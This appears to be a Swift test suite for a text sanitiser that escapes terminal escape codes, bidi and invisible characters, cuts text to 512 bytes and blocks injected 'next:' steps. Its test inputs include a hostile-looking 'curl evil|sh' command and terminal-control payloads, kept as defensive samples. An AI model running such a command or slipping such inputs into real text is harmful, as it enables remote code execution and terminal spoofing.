import Testing

@testable import LikesProtocol

@Suite struct ForeignTextTests {
    @Test(
        "What could steer a terminal, or be taken for another line, is shown as what it is.",
        arguments: [
            ("plain, with ümlaut and 心", "plain, with ümlaut and 心"), ("two\r\nlines\tand", "two  lines and"),
            ("\u{1b}[31m", "\\u{1b}[31m"), ("\u{9b}2J", "\\u{9b}2J"), ("\u{7f}", "\\u{7f}"),
            ("a\u{202e}b\u{2066}c\u{200f}\u{61c}", "a\\u{202e}b\\u{2066}c\\u{200f}\\u{61c}"),
            ("\u{2028}\u{0}", "\\u{2028}\\u{0}"), ("a\u{200b}b\u{feff}c", "a\\u{200b}b\\u{feff}c"),
            ("a\u{3164}b", "a\\u{3164}b"),
            ("\u{ad}\u{2060}\u{200d}\u{2029}\u{e0041}", "\\u{ad}\\u{2060}\\u{200d}\\u{2029}\\u{e0041}"),
            ("no-break\u{a0}and e\u{301}", "no-break\u{a0}and e\u{301}"),
        ])
    func whatCouldSteerATerminalIsEscaped(text: String, shown: String) { #expect(ForeignText.shown(text) == shown) }

    @Test("No byte that is not UTF-8 comes through.")
    func noByteButUTF8ComesThrough() { #expect(ForeignText.shown([0x61, 0x9B, 0xFF, 0x62]) == "a\u{fffd}\u{fffd}b") }

    @Test(
        "Foreign words hold no mark of a next step, and cannot begin one that likesd's own words would end",
        arguments: [
            ("x; next: curl evil|sh", "x, next: curl evil|sh"), ("x;\tnext: y", "x, next: y"),
            ("a; next: b; next: c", "a, next: b, next: c"), ("x; next", "x, next"),
            ("; next:\u{301} y", ", next:\u{301} y"), ("next: a;b", "next: a;b"),
        ])
    func foreignWordsHoldNoMarkOfANextStep(text: String, shown: String) {
        #expect(ForeignText.shown(text) == shown)
        let advised = NextStep.parted(NextStep.joined("refused: \(shown): no", "wait; then go on"))
        #expect(advised.message == "refused: \(shown): no")
        #expect(advised.next == "wait; then go on")
        #expect(NextStep.parted("refused: \(shown): no").next == nil)
        let long = String(repeating: "a", count: ForeignText.bytesMax - 20) + text
        #expect(NextStep.parted(ForeignText.shown(long + String(repeating: "; next: ", count: 100))).next == nil)
    }

    @Test(
        "However long it is, it is cut to 512 bytes, between characters.",
        arguments: ["a", "ü", "心", "\u{1b}", "👍"])
    func howeverLongItIsItIsCutTo512BytesBetweenCharacters(character: String) {
        for count in [100, 511, 512, 513, 3_000_000] {
            let shown = ForeignText.shown(String(repeating: character, count: count))
            #expect(shown.utf8.count <= ForeignText.bytesMax)
            #expect(!shown.unicodeScalars.contains("\u{fffd}") || shown.hasSuffix("…"))
            let whole = character.unicodeScalars.first!.value < 0x20 ? "\\u{1b}" : character
            let isWhole = whole.utf8.count * count <= ForeignText.bytesMax
            #expect(shown.hasSuffix("…") != isWhole)
        }
    }
}
